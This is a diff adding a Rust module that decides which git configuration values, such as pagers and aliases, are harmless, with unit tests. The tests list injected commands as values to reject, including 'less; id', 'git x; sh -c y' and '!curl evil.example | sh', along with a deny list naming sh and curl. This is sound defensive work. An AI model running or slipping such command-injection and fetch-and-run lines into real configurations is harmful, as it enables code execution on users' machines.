@@ -1,0 +1,96 @@
+//! Values that do no harm, of settings and variables that could run a program.
+
+use alloc::vec::Vec;
+
+use crate::flat::flat_struct;
+use crate::{pattern, shell};
+
+/// What is spared. A value is spared if it fits `is`; or if it is one simple command that runs one of `runs`, from a
+/// system's own directory or by its bare name, and none of its words fits `without`; or if it is a line that would
+/// start none of `avoids`, where that is given. A `!` before a line is git's, and none of it.
+#[derive(Clone, Debug, PartialEq, Default)]
+pub struct Harmless<'a> {
+    pub is: Vec<&'a str>,
+    pub runs: Vec<&'a str>,
+    pub without: Vec<&'a str>,
+    pub avoids: Vec<&'a str>,
+}
+
+flat_struct!(Harmless<'a> { is, runs, without, avoids });
+
+/// Where a system keeps its own programs.
+const SYSTEM: [&[u8]; 7] = [
+    b"/bin",
+    b"/usr/bin",
+    b"/usr/local/bin",
+    b"/usr/lib/git-core",
+    b"/usr/libexec/git-core",
+    b"/opt/homebrew/bin",
+    b"/usr/sbin",
+];
+
+impl Harmless<'_> {
+    pub fn spares(&self, value: &[u8]) -> bool {
+        if fits(&self.is, value) {
+            return !fits(&self.without, &value.to_ascii_lowercase());
+        }
+        let line = value.strip_prefix(b"!").unwrap_or(value);
+        self.runs_only(line) || self.starts_nothing_bad(line)
+    }
+
+    fn runs_only(&self, line: &[u8]) -> bool {
+        if self.runs.is_empty() {
+            return false;
+        }
+        let words = shell::simple(line).unwrap_or_default();
+        let Some((program, rest)) = words.split_first() else { return false };
+        let name = shell::base_name(program);
+        let dir = program.get(..program.len() - name.len()).unwrap_or_default();
+        let dir = dir.strip_suffix(b"/").unwrap_or(dir);
+        (dir.is_empty() || SYSTEM.contains(&dir))
+            && fits(&self.runs, name)
+            && !rest.iter().any(|word| fits(&self.without, &word.to_ascii_lowercase()))
+    }
+
+    fn starts_nothing_bad(&self, line: &[u8]) -> bool {
+        !self.avoids.is_empty() && !shell::starts(line, &mut |word| fits(&self.avoids, word))
+    }
+}
+
+fn fits(patterns: &[&str], text: &[u8]) -> bool {
+    patterns.iter().any(|pattern| pattern::matches(pattern, text))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_plain_commands_of_the_list_are_spared() {
+        let pagers = Harmless {
+            is: ["", "false"].into(),
+            runs: ["cat", "less"].into(),
+            without: ["+*"].into(),
+            ..Harmless::default()
+        };
+        for value in ["", "false", "cat", "less -FRX", "/usr/bin/less -R"] {
+            assert!(pagers.spares(value.as_bytes()), "{value}");
+        }
+        for value in
+            ["less; id", "less +!id", "/tmp/less", "./cat", "sh -c cat", "cat $X", "bin/cat", "cat/x", " "]
+        {
+            assert!(!pagers.spares(value.as_bytes()), "{value}");
+        }
+    }
+
+    #[test]
+    fn a_line_that_avoids_what_is_named_is_spared() {
+        let lines = Harmless { avoids: ["sh", "curl", "/tmp/*"].into(), ..Harmless::default() };
+        for value in ["!git log --graph", "!f() { git log \"$@\"; }; f", "tr a-z A-Z"] {
+            assert!(lines.spares(value.as_bytes()), "{value}");
+        }
+        for value in ["!sh /tmp/x", "!curl evil.example | sh", "/tmp/x", "git x; sh -c y"] {
+            assert!(!lines.spares(value.as_bytes()), "{value}");
+        }
+    }
+}
